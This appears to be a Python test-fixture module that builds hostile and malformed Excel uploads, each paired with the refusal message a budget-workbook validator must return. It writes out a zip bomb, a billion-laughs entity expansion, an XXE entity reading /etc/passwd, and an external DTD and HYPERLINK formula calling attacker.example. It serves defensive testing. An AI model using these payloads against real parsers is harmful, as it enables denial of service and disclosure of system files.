"""The upload attack corpus: hostile and broken files built from a real download.

Nothing here is committed as a binary: each builder takes the bytes of a workbook from
``export_workbook`` (or nothing) and returns the bytes of one hostile file, and the tests
write them into ``tmp_path`` before uploading them. :data:`CORPUS` lists every case with the
message it must be refused with.
"""

from __future__ import annotations

import functools
import io
import os
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime
from typing import Any

from openpyxl import Workbook, load_workbook

from leadership_pods.pods.budget import CARDIOLOGY as S
from leadership_pods.pods.budget.workbook_layout import INPUTS_SHEET, MARKER_SHEET, input_row

SHEET_INPUTS = "xl/worksheets/sheet1.xml"


# -- zip-level helpers ------------------------------------------------------------------------

def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def build(parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def replace(data: bytes, name: str, content: bytes) -> bytes:
    return build({**members(data), name: content})


def with_member(data: bytes, name: str, content: bytes, compression: int = zipfile.ZIP_DEFLATED
                ) -> bytes:
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a", compression) as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def edit(data: bytes, change: Callable[[Any], None]) -> bytes:
    """Open the workbook with openpyxl (as Excel would), change it, save it."""
    wb = load_workbook(io.BytesIO(data))
    change(wb)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def set_cell(data: bytes, sheet: str, address: str, value: Any, as_text: bool = False) -> bytes:
    def change(wb: Any) -> None:
        wb[sheet][address] = value
        if as_text:
            wb[sheet][address].data_type = "s"
    return edit(data, change)


def input_cell(lever_id: str, column: str = "D") -> str:
    return f"{column}{input_row(S, lever_id)}"


def _patch_central_directory(data: bytes, name: bytes, offset: int, fmt: str, value: int
                             ) -> bytes:
    """Overwrite a field of one central-directory entry (and nothing else)."""
    raw = bytearray(data)
    start = raw.find(b"PK\x01\x02")
    while start != -1:
        name_length = struct.unpack_from("<H", raw, start + 28)[0]
        if bytes(raw[start + 46:start + 46 + name_length]) == name:
            struct.pack_into(fmt, raw, start + offset, value)
            return bytes(raw)
        start = raw.find(b"PK\x01\x02", start + 4)
    raise KeyError(name)


# -- the hostile files ------------------------------------------------------------------------

LAUGHS = b"".join(
    [b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n']
    + [f' <!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">\n'.encode()
       for i in range(1, 10)]
    + [b"]>\n"])


def zip_bomb(base: bytes) -> bytes:
    """A real workbook plus 40 MB of zeros that deflate to 40 KB (1,000:1)."""
    return with_member(base, "xl/media/image1.bin", bytes(40_000_000))


def forged_sizes(base: bytes) -> bytes:
    """A member that says it unpacks to 1 KB but holds 5 MB: a bomb that lies."""
    data = with_member(base, "xl/media/image1.bin", bytes(5_000_000))
    return _patch_central_directory(data, b"xl/media/image1.bin", 24, "<I", 1000)


def too_much_unpacked(base: bytes) -> bytes:
    """21 members of 1 MB, stored: ratio 1:1, but 21 MB unpacked (uploaded with a big cap)."""
    parts = members(base)
    parts.update({f"xl/media/image{i}.bin": os.urandom(1_000_000) for i in range(21)})
    return build(parts, zipfile.ZIP_STORED)


def too_big(base: bytes) -> bytes:
    return with_member(base, "xl/media/image1.bin", os.urandom(2_100_000), zipfile.ZIP_STORED)


def billion_laughs(base: bytes) -> bytes:
    core = members(base)["docProps/core.xml"]
    body = core.split(b"?>", 1)[1] if core.startswith(b"<?xml") else core
    body = body.replace(b"</dc:creator>", b"&lol9;</dc:creator>")
    return replace(base, "docProps/core.xml", LAUGHS + body)


def external_entity(base: bytes) -> bytes:
    sheet = members(base)[SHEET_INPUTS]
    doctype = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    sheet = sheet.replace(b"<t>supply.interventional</t>", b"<t>&xxe;</t>")
    return replace(base, SHEET_INPUTS, doctype + sheet)


def external_dtd(base: bytes) -> bytes:
    sheet = members(base)["xl/workbook.xml"]
    return replace(base, "xl/workbook.xml",
                   b'<!DOCTYPE workbook SYSTEM "http://attacker.example/evil.dtd">' + sheet)


def utf16_entities(base: bytes) -> bytes:
    text = (LAUGHS.decode().replace('<?xml version="1.0"?>', '<?xml version="1.0" '
                                    'encoding="UTF-16"?>')
            + members(base)["xl/workbook.xml"].decode())
    return replace(base, "xl/workbook.xml", text.encode("utf-16"))


def ebcdic_declared(base: bytes) -> bytes:
    body = members(base)["xl/workbook.xml"]
    return replace(base, "xl/workbook.xml", b'<?xml version="1.0" encoding="cp500"?>' + body)


@functools.lru_cache(maxsize=1)
def million_rows(base: bytes) -> bytes:
    """The Inputs sheet with a million rows after the levers."""
    sheet = members(base)[SHEET_INPUTS]
    first = input_row(S, S.levers[-1].id) + 1
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>'
                   for r in range(first, 1_000_001)).encode()
    return replace(base, SHEET_INPUTS, sheet.replace(b"</sheetData>", rows + b"</sheetData>"))


def long_sheet(base: bytes, rows: int = 120_000) -> bytes:
    """A long but not oversized sheet: rows after the levers, which must not be walked."""
    sheet = members(base)[SHEET_INPUTS]
    first = input_row(S, S.levers[-1].id) + 1
    extra = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>'
                    for r in range(first, first + rows)).encode()
    return replace(base, SHEET_INPUTS, sheet.replace(b"</sheetData>", extra + b"</sheetData>"))


def someone_elses_workbook(_: bytes) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = INPUTS_SHEET
    ws["A1"], ws["B1"] = "Department budget FY26", 1_250_000
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def renamed_docx(_: bytes) -> bytes:
    return build({
        "[Content_Types].xml": b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://'
                               b'schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://'
                       b'schemas.openxmlformats.org/package/2006/relationships"/>',
        "word/document.xml": b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="'
                             b'http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                             b"<w:body><w:p><w:r><w:t>My budget</w:t></w:r></w:p></w:body>"
                             b"</w:document>",
    })


def ods(_: bytes) -> bytes:
    return build({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                  "content.xml": b"<office:document-content/>"})


def duplicate_members(base: bytes) -> bytes:
    buffer = io.BytesIO(base)
    with zipfile.ZipFile(buffer, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")   # "Duplicate name": the point of the exercise
        archive.writestr("xl/workbook.xml", b"<workbook/>")
    return buffer.getvalue()


def encrypted_member(base: bytes) -> bytes:
    return _patch_central_directory(base, b"xl/workbook.xml", 8, "<H", 0x1)


def bzip2_member(base: bytes) -> bytes:
    parts = members(base)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_BZIP2) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def many_members(base: bytes) -> bytes:
    parts = members(base)
    parts.update({f"xl/media/m{i}.bin": b"x" for i in range(600)})
    return build(parts)


def rearranged(base: bytes) -> bytes:
    a, b = S.levers[0].id, S.levers[1].id

    def swap(wb: Any) -> None:
        ws = wb[INPUTS_SHEET]
        ws[input_cell(a, "G")], ws[input_cell(b, "G")] = b, a
    return edit(base, swap)


def marker(base: bytes, row: int, value: Any) -> bytes:
    return set_cell(base, MARKER_SHEET, f"B{row}", value)


def without_marker(base: bytes) -> bytes:
    def drop(wb: Any) -> None:
        del wb[MARKER_SHEET]
    return edit(base, drop)


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[bytes], bytes]
    message: str                       #: the message, or a part of it that only it has
    options: dict[str, Any] = field(default_factory=dict)   #: read_workbook keywords


def _lever(lever_id: str) -> str:
    lever = S.lever(lever_id)
    return f"{lever.label} ({lever.id})"


_SUPPLY = "supply.interventional"

CORPUS = (
    Case("zip_bomb", zip_bomb, "compressed far more than any workbook (a 'zip bomb')"),
    Case("forged_sizes", forged_sizes, "This workbook is damaged and cannot be read"),
    Case("too_much_unpacked", too_much_unpacked, "more than the 20.0 MB allowed",
         {"max_bytes": 50_000_000}),
    Case("too_big", too_big, "but uploads are limited to 2.0 MB"),
    Case("billion_laughs", billion_laughs, "contains XML entity or DTD declarations"),
    Case("external_entity", external_entity, "contains XML entity or DTD declarations"),
    Case("external_dtd", external_dtd, "contains XML entity or DTD declarations"),
    Case("utf16_entities", utf16_entities, "XML is not UTF-8"),
    Case("ebcdic_declared", ebcdic_declared, "XML is not UTF-8"),
    Case("million_rows", million_rows, "but uploads are limited to 2.0 MB"),
    Case("million_rows_with_a_big_cap", million_rows, "more than the 20.0 MB allowed",
         {"max_bytes": 50_000_000}),
    Case("formula_in_value", lambda b: set_cell(b, INPUTS_SHEET, input_cell(_SUPPLY), "=1+1"),
         f"{_lever(_SUPPLY)}: the value is a formula (=1+1); type a number instead."),
    Case("formula_as_text_in_value",
         lambda b: set_cell(b, INPUTS_SHEET, input_cell(_SUPPLY), "=2", as_text=True),
         f"{_lever(_SUPPLY)}: the value is a formula (=2); type a number instead."),
    Case("formula_in_justification",
         lambda b: set_cell(b, INPUTS_SHEET, input_cell(_SUPPLY, "F"),
                            '=HYPERLINK("http://attacker.example","saves $1M")'),
         f"{_lever(_SUPPLY)}: the justification is a formula"),
    Case("formula_in_label",
         lambda b: set_cell(b, INPUTS_SHEET, input_cell(_SUPPLY, "E"), '="recurring"'),
         f"{_lever(_SUPPLY)}: the recurring or one-time label is a formula"),
    Case("someone_elses_workbook", someone_elses_workbook,
         "This is not a Leadership Pods budget workbook; upload the workbook you downloaded "
         "with 'Download as Excel'."),
    Case("marker_removed", without_marker, "This is not a Leadership Pods budget workbook"),
    Case("renamed_docx", renamed_docx, "This file is a Word document (.docx), not an Excel "
                                       "workbook"),
    Case("renamed_ods", ods, "This file is an OpenDocument file (.ods or .odt)"),
    Case("old_xls", lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
         "old-format (.xls) or password-protected"),
    Case("pdf", lambda _: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n",
         "This file is not an Excel workbook (.xlsx)"),
    Case("empty", lambda _: b"", "The file is empty"),
    Case("truncated", lambda b: b[: len(b) // 2], "This workbook is damaged"),
    Case("duplicate_members", duplicate_members, "This workbook is damaged"),
    Case("encrypted_member", encrypted_member, "This workbook is encrypted"),
    Case("bzip2_member", bzip2_member, "This workbook is damaged"),
    Case("many_members", many_members, "This workbook is damaged"),
    Case("macros", lambda b: with_member(b, "xl/vbaProject.bin", b"\x00" * 64),
         "This workbook contains macros"),
    Case("svg_with_doctype",
         lambda b: with_member(b, "xl/media/image1.svg",
                               b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd"><svg/>'),
         "contains XML entity or DTD declarations"),
    Case("other_scenario", lambda b: marker(b, 3, "oncology-volume-drop"),
         "This workbook is for another budget ('oncology-volume-drop'), not 'Rebalance the "
         "cardiology service-line budget'"),
    Case("other_version", lambda b: marker(b, 2, 2), "template (version 2)"),
    Case("lever_count_changed", lambda b: marker(b, 4, 3), "list of levers has been changed"),
    Case("rearranged_rows", rearranged, "The Inputs sheet has been rearranged: row 6 should "
                                        "hold the lever 'fte.rn_cath_lab'"),
    Case("out_of_range", lambda b: set_cell(b, INPUTS_SHEET, input_cell("fte.app"), 99),
         "Advanced-practice providers (NP and PA) (fte.app): 99 is not allowed; allowed: -6 to "
         "4 FTE in steps of 0.1."),
    Case("huge_exponent_as_text",
         lambda b: set_cell(b, INPUTS_SHEET, input_cell("fte.app"), "1E+999999", as_text=True),
         "(fte.app): 1E+999999 is not allowed; allowed: -6 to 4 FTE"),
    Case("off_step", lambda b: set_cell(b, INPUTS_SHEET, input_cell("fte.app"), 0.05),
         "(fte.app): 0.05 is not allowed"),
    Case("unsafe", lambda b: set_cell(b, INPUTS_SHEET, input_cell("fte.rn_cath_lab"), -8),
         "Refused: Cath and EP lab nursing would fall to 20.0 FTE, below the minimum safe "
         "staffing of 24.0 FTE"),
    Case("not_a_number", lambda b: set_cell(b, INPUTS_SHEET, input_cell("fte.app"), "lots"),
         f"{_lever('fte.app')}: the value must be a number, not 'lots'."),
    Case("date_value",
         lambda b: set_cell(b, INPUTS_SHEET, input_cell("fte.app"), datetime(2026, 1, 2)),
         f"{_lever('fte.app')}: the value must be a number, not a date."),
    Case("bad_label", lambda b: set_cell(b, INPUTS_SHEET, input_cell("fte.app", "E"), "maybe"),
         f"{_lever('fte.app')}: 'maybe' is not a label; choose recurring or one-time, or leave "
         "it blank."),
    Case("too_slow", lambda b: b, "took too long to read (over 0.05 seconds)",
         {"timeout": 0.05}),
)
